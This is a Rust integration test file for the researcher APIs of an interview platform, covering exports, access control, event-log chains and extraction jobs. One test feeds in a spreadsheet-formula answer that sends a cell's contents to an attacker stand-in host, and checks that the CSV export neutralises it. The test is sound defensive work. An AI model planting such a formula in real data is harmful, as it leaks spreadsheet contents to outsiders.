//! Researcher read APIs and exports over interviews run by the rules interviewer.

use interview_session::commands as cmd;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::both_stores;
use crate::helpers::paths;
use crate::helpers::{assert_error, json_of, Store, TestApp, RESEARCHER_TOKEN};

const AWKWARD: &str =
    "We buy \"fresh\" veg, then\nfreeze half of it — 冷冻的菜, every single Sunday evening";

/// Creates a demo session (a preview one with the researcher token) and runs it to the end.
pub(crate) async fn interview(app: &TestApp, preview: bool, consent: bool) -> String {
    interview_saying(app, preview, consent, AWKWARD).await
}

/// The same, the participant giving `answer` to every open question.
async fn interview_saying(app: &TestApp, preview: bool, consent: bool, answer: &str) -> String {
    interview_as(app, preview, consent, answer, "p,1").await.0
}

/// The same for the panel id `participant_ref`; the session and its participant token.
pub(crate) async fn interview_as(
    app: &TestApp,
    preview: bool,
    consent: bool,
    answer: &str,
    participant_ref: &str,
) -> (String, String) {
    let res = app
        .post(
            "/api/public/studies/demo/sessions",
            preview.then_some(RESEARCHER_TOKEN),
            &json!({"preview": preview, "participant_ref": participant_ref}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let created = json_of(res).await;
    let (session, token) = (
        created["session_id"].as_str().unwrap().to_string(),
        created["participant_token"].as_str().unwrap().to_string(),
    );
    let s = app.run(&session).await;
    app.answer(&session, &token, &s, json!({"accepted": consent}))
        .await;
    let mut s = app.run(&session).await;
    let mut guard = 0;
    while s["status"] != "completed" && s["status"] != "abandoned" {
        guard += 1;
        assert!(guard < 20, "the interview does not end: {s}");
        if s["status"] == "waiting_for_tool" {
            let value = match s["pending_interaction"]["type"].as_str().unwrap() {
                "likert" => json!(4),
                _ => json!("budget"),
            };
            app.answer(&session, &token, &s, value).await;
        } else {
            let reply = if s["current_phase"] == "SUMMARY_CONFIRMATION" {
                "yes"
            } else {
                answer
            };
            assert_eq!(
                app.post_message(&session, &token, reply).await.status(),
                StatusCode::ACCEPTED
            );
        }
        s = app.run(&session).await;
    }
    (session, token)
}

/// RFC 4180, enough for the tests: quoted fields, doubled quotes, line breaks inside quotes.
pub(crate) fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

// Long by design: four sessions (two completed, one declined, one preview), then every researcher
// export read against them in turn: the results, the CSV parsed back, the JSONL, the session list
// with its filters, and paging through it.
async fn results_and_exports_hold_completed_sessions_only(store: Store) {
    let app = TestApp::spawn(store).await;
    let study_id = json_of(app.get("/api/studies", Some(RESEARCHER_TOKEN)).await).await["studies"]
        [0]["study_id"]
        .as_str()
        .unwrap()
        .to_string();
    let first = interview(&app, false, true).await;
    let second = interview(&app, false, true).await;
    let declined = interview(&app, false, false).await;
    let preview = interview(&app, true, true).await;

    let results = json_of(
        app.get(&paths::results(&study_id), Some(RESEARCHER_TOKEN))
            .await,
    )
    .await;
    let rows = results["results"].as_array().unwrap();
    let ids: Vec<&str> = rows
        .iter()
        .map(|r| r["session_id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        [first.as_str(), second.as_str()],
        "abandoned and preview sessions stay out"
    );
    let method = &rows[0]["fields"]["planning_method"];
    assert!(method["value"].as_str().unwrap().contains("冷冻的菜"));
    assert!(method["confidence"].as_f64().unwrap() > 0.0);
    assert!(!method["evidence_turn_ids"].as_array().unwrap().is_empty());
    assert_eq!(rows[0]["fields"]["planning_satisfaction"]["value"], 4);

    // The CSV parses back to the same values, awkward text included.
    let csv = app
        .get(
            &format!("/api/studies/{study_id}/results.csv"),
            Some(RESEARCHER_TOKEN),
        )
        .await;
    assert_eq!(csv.status(), StatusCode::OK);
    assert!(csv.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let table = parse_csv(&csv.text().await.unwrap());
    assert_eq!(table.len(), 3, "a header and two rows: {table:?}");
    let col = |name: &str| {
        table[0]
            .iter()
            .position(|c| c == name)
            .unwrap_or_else(|| panic!("no column {name}"))
    };
    assert_eq!(table[1][col("session_id")], first);
    assert_eq!(table[1][col("participant_ref")], "p,1");
    assert_eq!(
        table[1][col("planning_method")],
        method["value"].as_str().unwrap()
    );
    assert_eq!(table[1][col("planning_satisfaction")], "4");
    assert_eq!(
        table[1][col("planning_method__quote")],
        method["quote"].as_str().unwrap()
    );

    let jsonl = app
        .get(
            &format!("/api/studies/{study_id}/results.jsonl"),
            Some(RESEARCHER_TOKEN),
        )
        .await
        .text()
        .await
        .unwrap();
    let lines: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[1]["session_id"], second.as_str());

    // The valid session list leaves out abandoned and preview sessions; filters bring them back.
    let list = |q: &str| {
        let path = format!("/api/studies/{study_id}/sessions{q}");
        let app = &app;
        async move { app.get(&path, Some(RESEARCHER_TOKEN)).await }
    };
    let ids_of = |v: &Value| -> Vec<String> {
        v["sessions"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["session_id"].as_str().unwrap().to_string())
            .collect()
    };
    let valid = json_of(list("").await).await;
    assert_eq!(ids_of(&valid), [first.clone(), second.clone()]);
    let abandoned = json_of(list("?status=abandoned").await).await;
    assert_eq!(ids_of(&abandoned), vec![declined]);
    let everything = json_of(list("?status=all&include_preview=true").await).await;
    assert_eq!(ids_of(&everything).len(), 4);
    assert!(ids_of(&everything).contains(&preview));
    // Paging walks the list once, in order.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    for _ in 0..10 {
        let page = json_of(
            list(&format!(
                "?status=all&include_preview=true&limit=1&cursor={cursor}"
            ))
            .await,
        )
        .await;
        seen.extend(ids_of(&page));
        match page["next_cursor"].as_str() {
            Some(c) => cursor = c.to_string(),
            None => break,
        }
    }
    assert_eq!(seen, ids_of(&everything));
}

// Long by design: one interview, then each session read route checked in turn: every route for
// researchers only, the event log's version, chain links and pinned study, the decision log against
// its events, then bad list queries and study exports refused.
async fn session_read_apis_serve_researchers_only(store: Store) {
    let app = TestApp::spawn(store).await;
    let session = interview(&app, false, true).await;
    let (_, participant) = app.create_session("demo").await;
    for (path, key) in [
        ("transcript", "transcript"),
        ("decisions", "decisions"),
        ("tool-calls", "tool_calls"),
        ("interaction-events", "interaction_events"),
        ("events", "events"),
        ("state", "status"),
    ] {
        let url = format!("/api/sessions/{session}/{path}");
        let body = json_of(app.get(&url, Some(RESEARCHER_TOKEN)).await).await;
        assert!(body.get(key).is_some(), "{path}: {body}");
        assert_error(
            app.get(&url, Some(&participant)).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
        assert_error(
            app.get(&url, None).await,
            StatusCode::UNAUTHORIZED,
            "unauthorized",
        )
        .await;
    }
    let events = json_of(
        app.get(&paths::events(&session), Some(RESEARCHER_TOKEN))
            .await,
    )
    .await;
    assert_eq!(events["events"][0]["event_type"], "session.created");
    // Written in schema version 2 (encrypted when it holds a panel id), shown with its chain
    // links and the pinned study inline.
    let version = events["events"][0]["event_version"].as_str().unwrap();
    assert!(["2", "encrypted"].contains(&version), "{version}");
    let created = &events["events"][0]["payload"];
    assert_eq!(created["type"], "session.created");
    assert!(created["study"]["study_config"]["objectives"].is_array());
    assert_eq!(created["hash"].as_str().unwrap().len(), 64);
    assert_eq!(events["events"][1]["payload"]["prev_hash"], created["hash"]);
    let decisions = json_of(
        app.get(
            &format!("/api/sessions/{session}/decisions"),
            Some(RESEARCHER_TOKEN),
        )
        .await,
    )
    .await;
    assert!(decisions["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .all(|d| !d["rationale"].as_str().unwrap().is_empty()));
    // The decision log is folded from the log: one row per decision event, in its order, with
    // its fields; the session read answers the same rows.
    let recorded: Vec<Value> = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event_type"] == "agent.decision.recorded")
        .map(|e| {
            let p = &e["payload"];
            json!([
                e["sequence"],
                p["decision_id"],
                p["phase"],
                p["rationale"],
                p["selected_action"]["action"]
            ])
        })
        .collect();
    let logged: Vec<Value> = decisions["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            json!([
                d["seq"],
                d["decision_id"],
                d["phase"],
                d["rationale"],
                d["selected_action"]["action"]
            ])
        })
        .collect();
    assert!(recorded.len() > 3, "{recorded:?}");
    assert_eq!(logged, recorded);
    let read = app.researcher_view(&session).await;
    assert_eq!(read["decision_log"], decisions["decisions"]);

    let studies = json_of(app.get("/api/studies", Some(RESEARCHER_TOKEN)).await).await;
    let study_id = studies["studies"][0]["study_id"].as_str().unwrap();
    for bad in [
        "?limit=0",
        "?limit=abc",
        "?cursor=nonsense",
        "?status=bogus",
    ] {
        let res = app
            .send(
                Method::GET,
                &format!("/api/studies/{study_id}/sessions{bad}"),
                Some(RESEARCHER_TOKEN),
                None,
            )
            .await;
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{bad}");
    }
    assert_error(
        app.get("/api/studies/nope/results.csv", Some(RESEARCHER_TOKEN))
            .await,
        StatusCode::NOT_FOUND,
        "study_not_found",
    )
    .await;
    assert_error(
        app.get(&paths::results(study_id), Some(&participant)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
}

/// The completion commit drives the post-session extraction: with the recovery sweep only at
/// start-up and then hourly, it is done at once.
async fn the_post_session_extraction_follows_the_completion_commit(store: Store) {
    let app = TestApp::spawn_with(store, |s| s.sweep_interval_secs = 3600).await;
    // Past the start-up sweep.
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let session = interview(&app, false, true).await;
    let mut view = Value::Null;
    for _ in 0..250 {
        view = app.researcher_view(&session).await;
        if view["current_phase"] == "END" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(view["current_phase"], "END", "{view}");
    let log: Value = serde_json::from_str(&app.event_log(&session).await).unwrap();
    let finals = log["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event_type"] == "extraction.completed" && e["payload"]["final"] == true)
        .count();
    assert_eq!(finals, 1);
}

// Long by design: one extraction claim followed in order: a dead worker's claim, a run that
// respects it, a run after it goes stale, a run that finds nothing left, then the state, the single
// final extraction in the log and the stream rules checked.
async fn the_post_session_extraction_runs_once_and_survives_a_dead_worker(store: Store) {
    let app = TestApp::spawn_with(store, |s| s.sweep_interval_secs = 0).await;
    let session = interview(&app, false, true).await;
    // A worker claimed the extraction and died before finishing.
    let stale = uuid::Uuid::new_v4();
    app.execute(
        &session,
        interview_session::SessionCommand::StartFinalExtraction(cmd::StartFinalExtraction {
            extraction_id: stale,
            at: chrono::Utc::now(),
        }),
    )
    .await;
    let now = chrono::Utc::now();
    assert_eq!(
        interview_runtime::jobs::extraction::run_once(&app.state, now)
            .await
            .unwrap(),
        0,
        "a fresh claim is respected"
    );
    let later = now + chrono::Duration::minutes(3);
    assert_eq!(
        interview_runtime::jobs::extraction::run_once(&app.state, later)
            .await
            .unwrap(),
        1,
        "a stale claim is retried"
    );
    assert_eq!(
        interview_runtime::jobs::extraction::run_once(&app.state, later)
            .await
            .unwrap(),
        0,
        "and only once"
    );

    let state = json_of(
        app.get(
            &format!("/api/sessions/{session}/state"),
            Some(RESEARCHER_TOKEN),
        )
        .await,
    )
    .await;
    assert_eq!(state["final_extraction_done"], true);
    let events = json_of(
        app.get(&paths::events(&session), Some(RESEARCHER_TOKEN))
            .await,
    )
    .await;
    let finals: Vec<&Value> = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event_type"] == "extraction.completed" && e["payload"]["final"] == true)
        .collect();
    assert_eq!(finals.len(), 1);
    let fields = finals[0]["payload"]["fields"].as_array().unwrap();
    assert!(fields
        .iter()
        .any(|f| f["field_id"] == "planning_method" && f["quote"].is_string()));
    app.assert_stream_follows_the_rules(&session).await;
}

/// Every view of every session, as the database holds it (for byte-for-byte comparisons).
async fn all_views(app: &TestApp) -> Vec<String> {
    let mut out = Vec::new();
    for table in [
        "SELECT session_id, status, current_phase, turn_count, last_seq, state FROM session_state ORDER BY session_id",
        "SELECT session_id, seq, turn_id, role, kind, content FROM transcript ORDER BY session_id, seq",
        "SELECT session_id, field_id, value FROM session_fields ORDER BY session_id, field_id",
        "SELECT session_id, end_reason, summary, fields FROM results ORDER BY session_id",
    ] {
        interview_projections::on_db!(read(app.db()), |pool| {
            for row in sqlx::query(table).fetch_all(pool).await.unwrap() {
                use sqlx::Row;
                let cols: Vec<String> = (0..row.len())
                    .map(|i| {
                        row.try_get::<String, _>(i)
                            .or_else(|_| row.try_get::<i64, _>(i).map(|v| v.to_string()))
                            .or_else(|_| row.try_get::<serde_json::Value, _>(i).map(|v| v.to_string()))
                            .unwrap_or_default()
                    })
                    .collect();
                out.push(cols.join("|"));
            }
        });
    }
    out
}

/// The bulk rebuild (`replay rebuild --all`) gives back exactly the views the live projector
/// wrote.
async fn a_bulk_rebuild_reproduces_the_live_views(store: Store) {
    let app = TestApp::spawn(store).await;
    for text in ["stop", "I use a list"] {
        let (session, token) = app.interviewing("demo").await;
        app.post_message(&session, &token, text).await;
        app.run(&session).await;
        app.post_message(&session, &token, "yes").await;
        app.run(&session).await;
    }
    let (session, _) = app.create_session("demo").await;
    app.run(&session).await;
    let live = all_views(&app).await;
    assert!(live.len() > 12, "{live:?}");
    interview_projections::on_db!(write(app.db()), |pool| {
        for t in ["transcript", "session_fields", "results", "session_state"] {
            sqlx::query(&format!("DELETE FROM {t}"))
                .execute(pool)
                .await
                .unwrap();
        }
    });
    let ids = interview_projections::read::session_ids(app.db())
        .await
        .unwrap();
    let mut batches = 0;
    let events = app
        .state
        .projector
        .rebuild_in_batches(&ids, 2, |_, _| batches += 1)
        .await
        .unwrap();
    assert!(events > 30);
    assert_eq!(batches, 2, "three sessions, two per batch");
    assert_eq!(all_views(&app).await, live);
}

/// A participant's answer that a spreadsheet would run as a formula is text in every CSV cell it
/// reaches (value and quote), and stays exactly as said in JSON Lines.
async fn formulas_in_answers_are_plain_text_in_csv(store: Store) {
    let app = TestApp::spawn(store).await;
    let study_id = json_of(app.get("/api/studies", Some(RESEARCHER_TOKEN)).await).await["studies"]
        [0]["study_id"]
        .as_str()
        .unwrap()
        .to_string();
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open the weekly plan\")";
    interview_saying(&app, false, true, formula).await;
    let csv = app
        .get(
            &format!("/api/studies/{study_id}/results.csv"),
            Some(RESEARCHER_TOKEN),
        )
        .await
        .text()
        .await
        .unwrap();
    let table = parse_csv(&csv);
    let col = |name: &str| table[0].iter().position(|c| c == name).unwrap();
    for column in ["planning_method", "planning_method__quote"] {
        let cell = &table[1][col(column)];
        assert!(cell.starts_with("'="), "{column}: {cell}");
    }
    for row in &table[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell}"
            );
        }
    }
    let jsonl = app
        .get(
            &format!("/api/studies/{study_id}/results.jsonl"),
            Some(RESEARCHER_TOKEN),
        )
        .await
        .text()
        .await
        .unwrap();
    let row: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert!(row["fields"]["planning_method"]["value"]
        .as_str()
        .unwrap()
        .starts_with("=HYPERLINK"));
}

/// Researchers see where each objective stands (FR-04-13): status, asked, answered, probes used
/// of the cap, the widget, and its fields' confidence — in the session and in its `/state`.
async fn coverage_is_served_to_researchers(store: Store) {
    let app = TestApp::spawn(store).await;
    let (session, token) = app.interviewing("demo").await;
    let coverage = |s: &Value| s["covered_objectives"].clone();
    let s = app.researcher_view(&session).await;
    let c = coverage(&s);
    assert_eq!(c["planning_habits"]["status"], "in_progress", "{c}");
    assert_eq!(c["planning_habits"]["asked"], true);
    assert_eq!(c["planning_habits"]["probe_cap"], 3);
    assert_eq!(c["pain_points"]["status"], "not_started");
    assert_eq!(c["pain_points"]["widget"], "not_shown");
    assert!(c["planning_habits"]["fields"]["planning_method"].is_null());
    // A long answer, then through pain points, skipping its widget.
    let long =
        "Every Sunday evening we sit down together, check the fridge and write a list on my phone";
    let mut s = app.run(&session).await;
    for _ in 0..12 {
        if coverage(&s)["pain_points"]["widget"] == "skipped" {
            break;
        }
        if s["status"] == "waiting_for_tool" {
            let id = s["pending_interaction"]["interaction_id"].as_str().unwrap();
            app.post(
                &paths::submit(&session, id),
                Some(&token),
                &json!({"status": "skipped"}),
            )
            .await;
        } else {
            app.post_message(&session, &token, long).await;
        }
        s = app.run(&session).await;
    }
    let c = coverage(&s);
    assert_eq!(c["planning_habits"]["answered"], true, "{c}");
    assert!(
        c["planning_habits"]["fields"]["planning_method"]
            .as_f64()
            .unwrap()
            > 0.0,
        "{c}"
    );
    assert_eq!(c["pain_points"]["widget"], "skipped", "{c}");
    assert_eq!(c["pain_points"]["status"], "skipped", "{c}");
    let state = json_of(
        app.get(
            &format!("/api/sessions/{session}/state"),
            Some(RESEARCHER_TOKEN),
        )
        .await,
    )
    .await;
    assert_eq!(state["covered_objectives"], c);
    // Participants do not get it.
    let own = json_of(app.get(&paths::session(&session), Some(&token)).await).await;
    assert!(own.get("covered_objectives").is_none());
}

/// Events a command writes after its first leave out what the one before says (version 3);
/// reading from any point of the log — inside a commit too, as an SSE resume may — gives the
/// same events as reading it whole, and the chain over the stored rows holds.
async fn the_log_reads_alike_from_any_event(store: Store) {
    let app = TestApp::spawn(store).await;
    let session = interview(&app, false, true).await;
    let whole = interview_projections::read::decoded_events_after(app.db(), &session, 0)
        .await
        .unwrap();
    let versions = interview_projections::read::event_versions(app.db(), &session)
        .await
        .unwrap();
    assert!(
        versions.iter().filter(|v| *v == "3").count() > whole.len() / 3,
        "{versions:?}"
    );
    assert!(whole
        .iter()
        .any(|(_, e)| e.body.event_type() == "interaction.rendered"));
    for after in 0..=whole.len() as u64 {
        // Up to the whole read's last event: the post-session extraction may append after it.
        let last = whole.last().unwrap().0;
        let from =
            interview_projections::read::decoded_events_between(app.db(), &session, after, last)
                .await
                .unwrap();
        assert_eq!(from, whole[after as usize..], "after {after}");
    }
    let rows = interview_projections::log::all_rows(app.db(), &session)
        .await
        .unwrap();
    let last = whole.last().unwrap().0;
    let head = interview_session::chain::verify_chain(
        rows.iter()
            .filter(|r| r.sequence <= last)
            .map(|r| r.chain()),
    );
    assert_eq!(head.unwrap(), whole.last().unwrap().1.hash);
}

both_stores!(
    the_log_reads_alike_from_any_event,
    coverage_is_served_to_researchers,
    formulas_in_answers_are_plain_text_in_csv,
    a_bulk_rebuild_reproduces_the_live_views,
    results_and_exports_hold_completed_sessions_only,
    session_read_apis_serve_researchers_only,
    the_post_session_extraction_runs_once_and_survives_a_dead_worker,
    the_post_session_extraction_follows_the_completion_commit,
);
